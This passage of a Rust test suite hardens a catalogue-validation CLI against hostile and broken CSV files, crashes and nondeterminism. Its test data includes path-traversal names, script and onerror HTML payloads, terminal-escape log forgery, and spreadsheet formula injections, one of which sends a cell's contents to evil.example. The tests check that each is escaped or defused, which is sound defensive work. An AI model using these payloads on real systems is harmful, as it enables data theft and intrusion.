//! Hardening (issue 6): hostile and broken catalogues, faults during a run, and determinism.
//!
//! - The nasty corpus: each catalogue in `tests/fixtures/nasty/` (and three too big to commit,
//!   generated here into a temporary folder: a 100 MB field, a million-column header, a file
//!   of NUL bytes) has a test asserting the exact outcome of `overlap validate`: exit code,
//!   every problem's line, column, code and key phrase, and the accounting
//!   (rows read = accepted + rejected); and, at library level, what was read from it.
//! - Run-level outcomes (department names that are paths stay inside the pack; HTML and
//!   spreadsheet formulas are neutralised), faults (output not writable, disk full, killed
//!   mid-run, an input gone between listing and reading) and determinism (byte-identical
//!   packs across thread counts, runs and listing order) need `overlap run`, so they pass only
//!   once matching and the pack writer are merged.
//!
//! Inputs are checksummed before and after every run: they are never modified.

use crate::common::{fixture, overlap, root};
use overlap::config::Config;
use overlap::ingest::{FileResult, collect_files, ingest_files, ingest_paths, read_bytes};
use overlap::ui::Ui;
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

/// One problem as `validate --format json` gives it.
#[derive(Debug, PartialEq)]
struct Found {
    line: u64,
    column: u64,
    severity: String,
    code: String,
    message: String,
}

/// What `overlap validate --format json FILE` said, with the accounting already checked.
struct Validated {
    exit: i32,
    problems: Vec<Found>,
    doc: Value,
}

impl Validated {
    fn totals(&self) -> (u64, u64, u64) {
        let t = &self.doc["totals"];
        let n = |k: &str| t[k].as_u64().unwrap_or(u64::MAX);
        (n("rows_read"), n("rows_accepted"), n("rows_rejected"))
    }
}

fn parse_validate(stdout: &[u8], exit: i32) -> Validated {
    let doc: Value = serde_json::from_slice(stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {}",
            String::from_utf8_lossy(stdout)
        )
    });
    let text = |p: &Value, k: &str| p[k].as_str().unwrap_or_default().to_string();
    let problems = doc["problems"]
        .as_array()
        .expect("problems array")
        .iter()
        .map(|p| Found {
            line: p["line"].as_u64().unwrap_or(0),
            column: p["column"].as_u64().unwrap_or(0),
            severity: text(p, "severity"),
            code: text(p, "code"),
            message: text(p, "message"),
        })
        .collect();
    let v = Validated {
        exit,
        problems,
        doc,
    };
    for f in v.doc["files"].as_array().expect("files array") {
        let n = |k: &str| f[k].as_u64().unwrap_or(u64::MAX);
        assert_eq!(
            n("rows_read"),
            n("rows_accepted") + n("rows_rejected"),
            "accounting for {f}"
        );
    }
    let (read, accepted, rejected) = v.totals();
    assert_eq!(read, accepted + rejected, "total accounting");
    v
}

fn validate(path: &Path) -> Validated {
    let out = overlap()
        .args(["validate", "--format", "json"])
        .arg(path)
        .output()
        .expect("runs");
    parse_validate(&out.stdout, out.status.code().unwrap_or(-1))
}

/// Asserts the problems are exactly `expected` (line, column, severity, code, phrases).
fn expect_problems(v: &Validated, expected: &[(u64, u64, &str, &str, &[&str])]) {
    assert_eq!(
        v.problems.len(),
        expected.len(),
        "problems: {:#?}",
        v.problems
    );
    for (p, (line, column, severity, code, phrases)) in v.problems.iter().zip(expected) {
        assert_eq!(
            (p.line, p.column, p.severity.as_str(), p.code.as_str()),
            (*line, *column, *severity, *code),
            "{p:#?}"
        );
        for phrase in *phrases {
            assert!(
                p.message.contains(phrase),
                "{:?} lacks {phrase:?}",
                p.message
            );
        }
    }
}

/// Reads a nasty fixture at library level.
fn read_nasty(name: &str) -> FileResult {
    let bytes = std::fs::read(fixture(&format!("nasty/{name}"))).expect("fixture reads");
    read_bytes(name, &bytes, &Config::default())
}

fn nasty(name: &str) -> PathBuf {
    fixture(&format!("nasty/{name}"))
}

// ---------------------------------------------------------------------------------------------
// The nasty corpus. Fixture rows use the header department,record_id,name,description,kind,
// phase,start_date,end_date,budget_gbp,contact_email (columns 1-10) unless said otherwise; the
// header is line 1.

#[test]
fn windows_1252_pound_signs_are_decoded_with_a_warning() {
    let v = validate(&nasty("windows-1252-pounds.csv"));
    expect_problems(
        &v,
        &[(1, 1, "warning", "encoding", &["windows-1252", "CSV UTF-8"])],
    );
    assert_eq!((v.exit, v.totals()), (0, (2, 2, 0)));
    let r = read_nasty("windows-1252-pounds.csv");
    assert_eq!(r.records[0].name, "Pay £5 penalty online");
    assert_eq!(r.records[0].budget_gbp, Some(1.2e6), "£1.2m read as money");
    assert_eq!(r.records[1].budget_gbp, Some(350e3), "£350k read as money");
}

/// Regression: a UTF-8 file with one stray Windows-1252 byte was decoded wholly as
/// Windows-1252, turning every "é" into "Ã©", with a warning pointing at line 1.
#[test]
fn invalid_utf8_mid_file_is_located_and_the_rest_stays_utf8() {
    let v = validate(&nasty("invalid-utf8-mid.csv"));
    expect_problems(
        &v,
        &[(
            3,
            1,
            "warning",
            "encoding",
            &["byte 0xA3 on this line", "1 more", "Windows-1252"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (0, (4, 4, 0)));
    let r = read_nasty("invalid-utf8-mid.csv");
    let names: Vec<&str> = r.records.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Café inspections",
            "Clinic fees",
            "Broken ÿ byte",
            "Résumé service"
        ]
    );
    assert_eq!(r.records[1].description, "Fees of £5 for clinic letters");
}

/// Regression: a lone CR ended a record (the csv parser's rule) but not a line, so rows after
/// it were reported on the line before.
#[test]
fn mixed_crlf_lf_and_cr_line_ends_keep_line_numbers_right() {
    let v = validate(&nasty("mixed-line-ends.csv"));
    // Line 1 ends CRLF, 2 LF, 3 CR, 4 CRLF: the impossible date is on line 4.
    expect_problems(&v, &[(4, 7, "error", "bad-date", &["no 31 February 2026"])]);
    assert_eq!((v.exit, v.totals()), (1, (4, 3, 1)));
    let lines: Vec<u64> = read_nasty("mixed-line-ends.csv")
        .records
        .iter()
        .map(|r| r.source.line)
        .collect();
    assert_eq!(lines, [2, 3, 5]);
}

/// Regression: a byte-order mark mid-file (two files joined) hid in the next field, and the
/// joined file's header row was accepted as an effort called "name".
#[test]
fn bom_in_the_middle_is_removed_and_the_repeated_header_rejected() {
    let v = validate(&nasty("bom-middle.csv"));
    expect_problems(
        &v,
        &[
            (
                3,
                1,
                "warning",
                "encoding",
                &["byte-order mark", "two files are joined"],
            ),
            (
                3,
                1,
                "error",
                "repeated-header",
                &["repeats the header of line 1"],
            ),
        ],
    );
    assert_eq!((v.exit, v.totals()), (1, (3, 2, 1)));
    let r = read_nasty("bom-middle.csv");
    for rec in &r.records {
        assert_eq!(rec.department, "Department of Transport");
    }
}

#[test]
fn a_quote_left_open_at_the_end_is_reported_where_it_opens() {
    let v = validate(&nasty("open-quote-at-end.csv"));
    expect_problems(
        &v,
        &[(
            3,
            3,
            "error",
            "unclosed-quote",
            &["never closed", "lines 3 to 4"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (2, 1, 1)));
}

#[test]
fn a_header_only_file_warns_that_it_has_no_rows() {
    let v = validate(&nasty("header-only.csv"));
    expect_problems(&v, &[(1, 1, "warning", "no-rows", &["header but no rows"])]);
    assert_eq!((v.exit, v.totals()), (0, (0, 0, 0)));
}

#[test]
fn duplicate_headers_keep_the_first_column_with_a_warning() {
    // Header: department,record_id,name,description,name.
    let v = validate(&nasty("duplicate-headers.csv"));
    expect_problems(
        &v,
        &[(
            1,
            5,
            "warning",
            "duplicate-column",
            &["header 'name' also names name", "column 3"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (0, (1, 1, 0)));
    assert_eq!(
        read_nasty("duplicate-headers.csv").records[0].name,
        "Street Works Register"
    );
}

#[test]
fn the_same_record_id_twice_rejects_the_second() {
    let v = validate(&nasty("duplicate-id.csv"));
    expect_problems(
        &v,
        &[(
            4,
            2,
            "error",
            "duplicate-id",
            &["'DFT-001'", "already used on line 2"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (3, 2, 1)));
}

#[test]
fn department_names_that_are_paths_are_read_as_text() {
    let v = validate(&nasty("path-departments.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (5, 5, 0)));
    let depts: Vec<String> = read_nasty("path-departments.csv")
        .records
        .into_iter()
        .map(|r| r.department)
        .collect();
    assert_eq!(
        depts,
        [
            "../x",
            "/etc",
            "C:\\",
            "CON",
            "../../../../tmp/overlap-escape"
        ]
    );
}

/// The wrapper the fixture puts around every text value (see html-everywhere.csv).
fn html_wrapped(s: &str) -> String {
    format!("<b>{s}</b><script>alert(1)</script><img src=x onerror=alert(2)>")
}

#[test]
fn html_and_script_in_every_text_field_are_kept_as_text() {
    let v = validate(&nasty("html-everywhere.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (2, 2, 0)));
    let r = read_nasty("html-everywhere.csv");
    let rec = &r.records[0];
    assert_eq!(rec.department, html_wrapped("Dept <i>of</i> Scripts"));
    assert_eq!(rec.name, html_wrapped("Grants management platform"));
    assert_eq!(
        rec.owner.as_deref(),
        Some(html_wrapped("Jo Bloggs").as_str())
    );
    assert_eq!(
        rec.capabilities,
        [html_wrapped("payments"), html_wrapped("case management")]
    );
}

#[test]
fn spreadsheet_formulas_in_every_text_field_are_kept_as_text() {
    // Full schema header (14 columns); the third row's cells start with @, -, =, +, tab, CR.
    let v = validate(&nasty("formulas-everywhere.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (3, 3, 0)));
    let r = read_nasty("formulas-everywhere.csv");
    assert_eq!(r.records[0].name, "=Grants management platform");
    assert_eq!(r.records[0].department, "=Dept of Formulas");
    let last = &r.records[2];
    assert_eq!(
        (
            last.department.as_str(),
            last.name.as_str(),
            last.description.as_str()
        ),
        ("@SUM(1+1)", "-2+3", "=1+1")
    );
    assert_eq!(last.user_groups, ["=A1", "+A2"]);
    assert_eq!(
        last.owner.as_deref(),
        Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
    );
}

#[test]
fn right_to_left_zero_width_and_emoji_are_kept() {
    let v = validate(&nasty("unicode.csv"));
    // The one U+FEFF (inside a name on line 3) is removed with a warning; all else is kept.
    expect_problems(&v, &[(3, 1, "warning", "encoding", &["byte-order mark"])]);
    assert_eq!((v.exit, v.totals()), (0, (4, 4, 0)));
    let r = read_nasty("unicode.csv");
    let names: Vec<&str> = r.records.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "حجز المواعيد",
            "Zero\u{200b}widthname",
            "Right-to-left \u{202e}override\u{202c}",
            "Rocket 🚀 launch"
        ]
    );
    assert_eq!(
        r.records[1].department,
        "Ministry\u{200b} of\u{200d} Health"
    );
    assert_eq!(r.records[3].description, "Family 👨‍👩‍👧 services 😀");
}

/// Regression: values quoted in messages kept their line breaks, terminal escapes and
/// direction overrides, so a catalogue could forge extra `FILE:LINE:COL` lines or make a
/// message read backwards in `validate`'s output.
#[test]
fn messages_show_control_and_bidi_characters_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("escape.csv");
    let phase = "\u{1b}[2J\u{202e}live\nfake.csv:1:1: error: forged";
    std::fs::write(
        &file,
        // Enough ordinary text after the bad row that the file is not mistaken for binary.
        format!(
            "department,record_id,name,description,phase\nD,1,N,Desc,\"{phase}\"\n{}",
            (2..7)
                .map(|i| format!("D,{i},Ordinary row,An ordinary description of a service,live\n"))
                .collect::<String>()
        ),
    )
    .expect("write");
    let out = overlap().arg("validate").arg(&file).output().expect("runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = stdout.lines().filter(|l| l.contains(": error: ")).collect();
    assert_eq!(lines.len(), 1, "{stdout}");
    assert!(lines[0].contains(":2:5: error: unknown phase '\\u{1b}[2J\\u{202e}live\\nfake.csv"));
    assert!(!stdout.contains('\u{1b}') && !stdout.contains('\u{202e}'));
}

#[test]
fn impossible_dates_and_budgets_are_rejected_with_reasons() {
    let v = validate(&nasty("bad-values.csv"));
    expect_problems(
        &v,
        &[
            (
                3,
                7,
                "error",
                "bad-date",
                &["'31/02/2026'", "no 31 February 2026"],
            ),
            (4, 9, "error", "bad-budget", &["'-£5m' is negative"]),
            (
                5,
                9,
                "error",
                "bad-budget",
                &["'1e400' is not an amount of money", "£1.2m"],
            ),
        ],
    );
    assert_eq!((v.exit, v.totals()), (1, (4, 1, 3)));
}

/// Runs `overlap ARGS` and returns its exit code, stdout, and peak resident memory in KiB
/// (from `wait4`'s rusage for this child alone).
#[cfg(target_os = "linux")]
#[allow(clippy::zombie_processes)] // reaped by wait4 below, which also gives the rusage
fn run_measured(args: &[&std::ffi::OsStr]) -> (i32, Vec<u8>, u64) {
    use std::io::Read;
    let mut child = Command::new(env!("CARGO_BIN_EXE_overlap"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawns");
    let mut stdout = child.stdout.take().expect("stdout");
    let reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = stdout.read_to_end(&mut buf);
        buf
    });
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: rusage is plain data; wait4 fills it and `status` for our own child.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(reaped, pid, "wait4");
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -1
    };
    let out = reader.join().expect("reader");
    (code, out, usage.ru_maxrss as u64)
}

/// Memory bound for a huge field: peak resident memory stays under three times the file's
/// size plus 64 MiB (the file's bytes, the csv parser's copy of the record, and the program).
/// Measured on the debug build: a 100 MiB field peaks at about 235 MiB.
#[cfg(target_os = "linux")]
#[test]
fn a_100_mb_field_is_rejected_in_bounded_memory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("big-field.csv");
    let field = 100 * 1024 * 1024;
    let mut text = String::with_capacity(field + 200);
    text.push_str("department,record_id,name,description\nDepartment of Transport,DFT-1,Big,");
    text.extend(std::iter::repeat_n('x', field));
    text.push_str("\nDepartment of Transport,DFT-2,Small,A normal row\n");
    std::fs::write(&file, &text).expect("write");
    let size_kib = text.len() as u64 / 1024;
    drop(text);
    let (code, stdout, peak_kib) = run_measured(&[
        "validate".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        file.as_ref(),
    ]);
    let v = parse_validate(&stdout, code);
    expect_problems(
        &v,
        &[(
            2,
            4,
            "error",
            "field-too-long",
            &[&format!("field is {field} bytes long"), "max_field_bytes"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (2, 1, 1)));
    assert!(
        peak_kib < 3 * size_kib + 64 * 1024,
        "peak RSS {peak_kib} KiB for a {size_kib} KiB file"
    );
}

/// Regression: a million-column header planned a layout for every column (about 430 MB and
/// 9 s on the debug build); such a header is now refused up front.
#[cfg(target_os = "linux")]
#[test]
fn a_million_column_header_is_refused_in_bounded_memory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("wide.csv");
    let columns = 1_000_000;
    let mut text = String::from("department,record_id,name,description");
    for i in 4..columns {
        text.push_str(&format!(",c{i}"));
    }
    text.push_str("\nDepartment of Transport,DFT-1,Name,Description\n");
    std::fs::write(&file, &text).expect("write");
    let (code, stdout, peak_kib) = run_measured(&[
        "validate".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        file.as_ref(),
    ]);
    let v = parse_validate(&stdout, code);
    expect_problems(
        &v,
        &[(
            1,
            10_001,
            "error",
            "too-many-columns",
            &[&format!("the header has {columns} columns")],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (1, 0, 1)));
    assert_eq!(v.doc["files"][0]["file_rejected"], true);
    assert!(peak_kib < 200 * 1024, "peak RSS {peak_kib} KiB");
}

#[test]
fn a_file_of_nul_bytes_is_not_text() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("nul.csv");
    std::fs::write(&file, vec![0u8; 1 << 20]).expect("write");
    let v = validate(&file);
    expect_problems(&v, &[(1, 1, "error", "not-text", &["NUL bytes"])]);
    assert_eq!((v.exit, v.totals()), (1, (0, 0, 0)));
    assert_eq!(v.doc["files"][0]["file_rejected"], true);
}

// ---------------------------------------------------------------------------------------------
// Inputs that vanish, and reading order.

#[test]
fn an_input_gone_between_listing_and_reading_is_a_clear_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    for name in ["a.csv", "b.csv"] {
        std::fs::copy(nasty("duplicate-id.csv"), dir.path().join(name)).expect("copy");
    }
    let files = collect_files(&[dir.path().to_path_buf()]).expect("listed");
    std::fs::remove_file(dir.path().join("b.csv")).expect("remove");
    let err = ingest_files(&files, &Config::default(), &Ui::default())
        .expect_err("a vanished file is an error")
        .to_string();
    assert!(
        err.contains("b.csv") && err.contains("is gone now"),
        "{err}"
    );
    // Named on the command line but missing: a usage error saying so.
    let missing = dir.path().join("b.csv");
    let err = ingest_paths(&[missing], &Config::default(), &Ui::default())
        .expect_err("missing")
        .to_string();
    assert!(err.contains("b.csv: no such file or folder"), "{err}");
    let out = overlap()
        .arg("validate")
        .arg(dir.path().join("b.csv"))
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
}

/// Ingest gives the same records, summaries and problems whatever order the files are named
/// in and however many threads read them.
#[test]
fn ingest_is_independent_of_listing_order_and_threads() {
    let mut files = collect_files(&[root().join("sample-data/2026-11")]).expect("listed");
    files.push(nasty("bad-values.csv"));
    files.push(nasty("bom-middle.csv"));
    let config = Config::default();
    let as_json = |files: &[PathBuf], threads: usize| {
        let pool = rayon::ThreadPoolBuilder::new()
            .num_threads(threads)
            .build()
            .expect("pool");
        let ingested = pool
            .install(|| ingest_paths(files, &config, &Ui::default()))
            .expect("ingest");
        serde_json::to_string(&ingested).expect("json")
    };
    let forward = as_json(&files, 1);
    let mut reversed = files.clone();
    reversed.reverse();
    assert_eq!(forward, as_json(&reversed, 3));
    let mut rotated = files.clone();
    rotated.rotate_left(5);
    assert_eq!(forward, as_json(&rotated, 2));
}

// ---------------------------------------------------------------------------------------------
// Runs: these need `overlap run` (matching and the pack writer).

/// SHA-256 of every file under `dir`, by path relative to it.
fn checksums(dir: &Path) -> BTreeMap<String, String> {
    files_under(dir)
        .into_iter()
        .map(|(rel, bytes)| (rel, format!("{:x}", Sha256::digest(bytes))))
        .collect()
}

/// Every file under `dir` with its bytes, by relative path with `/` separators.
fn files_under(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).expect("read dir") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path.strip_prefix(dir).expect("under dir");
                let rel: Vec<String> = rel
                    .components()
                    .map(|c| c.as_os_str().to_string_lossy().into_owned())
                    .collect();
                out.insert(rel.join("/"), std::fs::read(&path).expect("read"));
            }
        }
    }
    out
}

/// A period folder `<root>/2026-11` holding the sample catalogues and the named nasty
/// fixtures, copied in the given order (`reverse` copies them last-first).
fn period_folder(root_dir: &Path, extra: &[&str], reverse: bool) -> PathBuf {
    let period = root_dir.join("2026-11");
    std::fs::create_dir_all(&period).expect("mkdir");
    let mut sources: Vec<PathBuf> =
        collect_files(&[root().join("sample-data/2026-11")]).expect("sample data");
    sources.extend(extra.iter().map(|n| nasty(n)));
    if reverse {
        sources.reverse();
    }
    for s in sources {
        std::fs::copy(&s, period.join(s.file_name().expect("name"))).expect("copy");
    }
    period
}

fn run_ok(cwd: &Path, args: &[&str]) -> std::process::Output {
    let out = overlap()
        .current_dir(cwd)
        .arg("run")
        .args(args)
        .output()
        .expect("runs");
    assert_eq!(
        out.status.code(),
        Some(0),
        "overlap run {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

#[test]
fn run_keeps_path_like_departments_inside_the_pack() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let period = period_folder(tmp.path(), &["path-departments.csv"], false);
    let before = checksums(&period);
    run_ok(tmp.path(), &["2026-11", "--out", "out/pack"]);
    assert_eq!(checksums(&period), before, "inputs unchanged");
    // Nothing beside the input and the pack: no partial folders, no escaped files.
    let top: Vec<String> = std::fs::read_dir(tmp.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    let mut top = top;
    top.sort();
    assert_eq!(top, ["2026-11", "out"]);
    let out_entries: Vec<_> = std::fs::read_dir(tmp.path().join("out"))
        .expect("list")
        .collect();
    assert_eq!(out_entries.len(), 1, "only the pack in out/");
    assert!(!Path::new("/tmp/overlap-escape.html").exists());
    let pages = files_under(&tmp.path().join("out/pack/departments"));
    assert!(!pages.is_empty(), "department pages written");
    for name in pages.keys() {
        let ok = !name.contains('/')
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
            && !name.starts_with('.');
        assert!(ok, "department page {name:?} is not a plain slug");
    }
    // The windows device name is not a bare file name.
    assert!(
        !pages.contains_key("con.html"),
        "CON must not become con.html"
    );
}

/// True when a CSV cell could be run as a formula by a spreadsheet.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

#[test]
fn run_neutralises_html_and_formulas_in_the_pack() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let period = period_folder(
        tmp.path(),
        &["html-everywhere.csv", "formulas-everywhere.csv"],
        false,
    );
    let before = checksums(&period);
    run_ok(tmp.path(), &["2026-11", "--out", "pack"]);
    assert_eq!(checksums(&period), before, "inputs unchanged");
    let pack = files_under(&tmp.path().join("pack"));
    let (mut escaped_html, mut defused_cells) = (0, 0);
    for (name, bytes) in &pack {
        let text = String::from_utf8_lossy(bytes);
        if name.ends_with(".html") || name.ends_with(".md") || name.ends_with(".svg") {
            // Markdown escapes a tag's `<` with a backslash; HTML and SVG turn it into `&lt;`.
            let lower = text.to_lowercase();
            for tag in ["<script", "<img src=x", "<b>grants", "<i>of"] {
                let raw = lower
                    .match_indices(tag)
                    .any(|(i, _)| !lower[..i].ends_with('\\'));
                assert!(!raw, "{name} holds catalogue HTML {tag:?} unescaped");
            }
            escaped_html +=
                text.matches("&lt;script&gt;").count() + text.matches("\\<script").count();
        }
        if name.ends_with(".csv") {
            let mut rdr = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(bytes.as_slice());
            for row in rdr.records() {
                let row = row.expect("the pack's CSV parses");
                for cell in row.iter() {
                    assert!(
                        !formula_like(cell),
                        "{name}: cell {cell:?} could run as a formula"
                    );
                    if cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@") {
                        defused_cells += 1;
                    }
                }
            }
        }
    }
    // The hostile text did reach the pack (else the checks above prove nothing).
    assert!(escaped_html > 0, "no escaped catalogue HTML in the pack");
    assert!(
        defused_cells > 0,
        "no defused formula cell in the pack's CSV files"
    );
}

#[test]
fn run_fails_cleanly_when_the_output_folder_cannot_be_made() {
    // As root, permissions do not stop writes; a regular file where a folder should be does.
    let tmp = tempfile::tempdir().expect("temp dir");
    let period = period_folder(tmp.path(), &[], false);
    std::fs::write(tmp.path().join("a_file"), b"not a folder").expect("write");
    let before = checksums(&period);
    let out = overlap()
        .current_dir(tmp.path())
        .args(["run", "2026-11", "--out", "a_file/pack"])
        .output()
        .expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("a_file"), "names the path: {stderr}");
    assert_eq!(
        std::fs::read(tmp.path().join("a_file")).expect("read"),
        b"not a folder"
    );
    assert_eq!(checksums(&period), before, "inputs unchanged");
}

/// Disk full, simulated with a file-size limit (RLIMIT_FSIZE) on the child, with SIGXFSZ
/// ignored so that a write past the limit fails with an error (EFBIG) as a full disk fails
/// with ENOSPC. This works as root and without mounting anything (a size-limited tmpfs needs
/// mount rights that CI containers may not have); the writer meets the error at the same
/// write calls.
#[cfg(target_os = "linux")]
#[test]
fn run_with_a_full_disk_leaves_no_pack_and_a_rerun_succeeds() {
    use std::os::unix::process::CommandExt;
    let tmp = tempfile::tempdir().expect("temp dir");
    let period = period_folder(tmp.path(), &[], false);
    let before = checksums(&period);
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_overlap"));
    cmd.current_dir(tmp.path())
        .args(["run", "2026-11", "--out", "pack"]);
    // SAFETY: only async-signal-safe calls (setrlimit, signal) between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 16 * 1024,
                rlim_max: 16 * 1024,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            Ok(())
        });
    }
    let out = cmd.output().expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("overlap: error:"), "{stderr}");
    assert!(
        !tmp.path().join("pack").exists(),
        "no pack after a failed write"
    );
    let mut left: Vec<String> = std::fs::read_dir(tmp.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["2026-11"], "no partial pack left behind");
    assert_eq!(checksums(&period), before, "inputs unchanged");
    run_ok(tmp.path(), &["2026-11", "--out", "pack"]);
    assert!(tmp.path().join("pack/run.json").is_file());
}

/// A period big enough that a debug-build run takes a while: the sample catalogues, each
/// copied `copies` times with record ids made unique.
fn large_period(root_dir: &Path, copies: usize) -> PathBuf {
    let period = root_dir.join("2026-11");
    std::fs::create_dir_all(&period).expect("mkdir");
    for src in collect_files(&[root().join("sample-data/2026-11")]).expect("sample data") {
        let name = src
            .file_stem()
            .expect("stem")
            .to_string_lossy()
            .into_owned();
        let bytes = std::fs::read(&src).expect("read");
        let mut rdr = csv::Reader::from_reader(bytes.as_slice());
        let headers = rdr.headers().expect("headers").clone();
        let id = headers
            .iter()
            .position(|h| h.to_lowercase().replace([' ', '_'], "") == "recordid")
            .expect("a record id column");
        let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.expect("row")).collect();
        let mut w = csv::Writer::from_path(period.join(format!("{name}.csv"))).expect("create");
        w.write_record(&headers).expect("write");
        for copy in 0..copies {
            for row in &rows {
                let cells: Vec<String> = row
                    .iter()
                    .enumerate()
                    .map(|(i, c)| {
                        if i == id {
                            format!("{c}-{copy}")
                        } else {
                            c.to_string()
                        }
                    })
                    .collect();
                w.write_record(&cells).expect("write");
            }
        }
        w.flush().expect("flush");
    }
    period
}

/// Killed at several points of a run, `overlap run` leaves either nothing at `--out` or a
/// complete pack (with run.json), never a half-written one; and a rerun succeeds.
#[test]
fn a_run_killed_at_any_point_leaves_no_partial_pack() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let period = large_period(tmp.path(), 4);
    let before = checksums(&period);
    let bin = env!("CARGO_BIN_EXE_overlap");
    // How long a whole run takes here, to spread the kill points over it.
    let started = Instant::now();
    run_ok(tmp.path(), &["2026-11", "--out", "full"]);
    let whole = started.elapsed();
    for (i, fraction) in [0.02, 0.1, 0.3, 0.5, 0.7, 0.85, 0.95].iter().enumerate() {
        let out = format!("killed-{i}");
        let mut child = Command::new(bin)
            .current_dir(tmp.path())
            .args(["run", "2026-11", "--out", &out])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawns");
        std::thread::sleep(whole.mul_f64(*fraction));
        let _ = child.kill();
        let _ = child.wait();
        let pack = tmp.path().join(&out);
        assert!(
            !pack.exists() || pack.join("run.json").is_file(),
            "killed at {fraction} of the run: {out} exists without run.json"
        );
        // A kill cannot be cleaned up after: the writer's hidden staging folder
        // (`.killed-N.partial-XXXX`) may stay beside the pack, but nothing else may.
        for entry in std::fs::read_dir(tmp.path()).expect("list") {
            let name = entry
                .expect("entry")
                .file_name()
                .to_string_lossy()
                .into_owned();
            if name.contains(&out) {
                assert!(
                    name == out || name.starts_with(&format!(".{out}.partial-")),
                    "unexpected {name} after a kill"
                );
            }
        }
        let mut args = vec!["2026-11", "--out", out.as_str()];
        if pack.exists() {
            args.push("--force");
        }
        run_ok(tmp.path(), &args);
        assert!(
            pack.join("run.json").is_file(),
            "rerun wrote a complete pack"
        );
    }
    assert_eq!(checksums(&period), before, "inputs unchanged");
}

/// A pack's files with run.json's timings removed (they are the one thing allowed to differ).
fn pack_without_timings(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = files_under(dir);
    let run = files.get_mut("run.json").expect("run.json written");
    let mut doc: Value = serde_json::from_slice(run).expect("run.json is JSON");
    doc.as_object_mut().expect("an object").remove("timings");
    *run = serde_json::to_vec_pretty(&doc).expect("json");
    files
}

#[test]
fn packs_are_byte_identical_across_threads_runs_and_listing_order() {
    let a = tempfile::tempdir().expect("temp dir");
    let b = tempfile::tempdir().expect("temp dir");
    let period = period_folder(a.path(), &["bad-values.csv"], false);
    period_folder(b.path(), &["bad-values.csv"], true);
    let before = checksums(&period);
    let mut packs = Vec::new();
    for threads in [Some("1"), Some("2"), None, None] {
        let mut args = vec!["2026-11", "--out", "pack", "--force"];
        if let Some(t) = threads {
            args.extend(["--threads", t]);
        }
        run_ok(a.path(), &args);
        packs.push((
            format!("{threads:?} threads"),
            pack_without_timings(&a.path().join("pack")),
        ));
    }
    // The same catalogues, copied into their folder in the opposite order.
    run_ok(b.path(), &["2026-11", "--out", "pack"]);
    packs.push((
        "reverse listing".into(),
        pack_without_timings(&b.path().join("pack")),
    ));
    let (first_label, first) = &packs[0];
    assert!(first.len() > 5, "a whole pack: {:?}", first.keys());
    for (label, pack) in &packs[1..] {
        assert_eq!(
            first.keys().collect::<Vec<_>>(),
            pack.keys().collect::<Vec<_>>(),
